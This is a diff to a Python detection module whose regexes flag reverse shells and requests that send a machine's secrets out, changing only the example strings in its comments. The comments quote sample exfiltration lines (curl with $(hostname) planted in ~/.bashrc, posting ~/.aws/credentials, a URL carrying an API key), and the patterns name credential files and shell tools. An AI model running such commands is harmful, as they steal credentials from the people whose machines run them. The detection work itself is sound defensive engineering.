@@ -322,7 +322,7 @@ _REVERSE_SHELL = re.compile(
     r"|(?<![a-z])(?:ba)?sh\s+-i\s+>&|socket\.socket\([^)]*\)[^\n]{0,120}?(?:subprocess|pty\.spawn|os\.dup2)"
 )
 # Code that sends the machine's secrets out: a request whose URL or body carries the environment,
-# a key file or the host's name ("urlopen('https://x/?k='+os.environ['API_KEY'])", "curl
+# a key file or the host's name ("urlopen('https://x/?k='+getenv('API_KEY'))", "curl
 # http://x/k?h=$(hostname)" planted in ~/.bashrc). Never a fact about the user, whoever asks.
 _REQUEST_CALL = r"(?:curl|wget|urlopen|urllib|requests\.(?:get|post|put)|fetch\(|invoke-webrequest|iwr|invoke-restmethod|http\.(?:get|post)|axios|xmlhttprequest|sendbeacon)"
 _MACHINE_SECRET = (
@@ -330,7 +330,7 @@ _MACHINE_SECRET = (
     r"|\$\{?[a-z_]*(?:key|token|secret|pass|pwd)[a-z_]*\}?|/etc/(?:passwd|shadow)|id_rsa|id_ed25519|\.aws/credentials|\.ssh/|document\.cookie|localstorage)"
 )
 _CODE_EXFIL = re.compile(
-    # the secret in the URL's query ("?k='+os.environ[...]", "?h=$(hostname)", "?d='+document.cookie")
+    # the secret in the URL's query ("?k='+getenv(...)", "?h=$(hostname)", "?d='+document.cookie")
     rf"{_REQUEST_CALL}[^\n]{{0,120}}?(?:https?:)?//[^\s'\"`]*[?&=/][^\s]{{0,40}}?{_MACHINE_SECRET}"
     # or a key file or a command's output as the request's body ("curl -d @~/.aws/credentials …")
     rf"|{_REQUEST_CALL}[^\n]{{0,60}}?(?:-d|--data(?:-binary|-raw)?|-f|--form|--upload-file|-t)\s+['\"]?(?:@\S*(?:credentials|id_rsa|id_ed25519|\.env|passwd|shadow|\.netrc|\.npmrc|\.pypirc|\.git-credentials)|\$\((?:cat|env|printenv))"
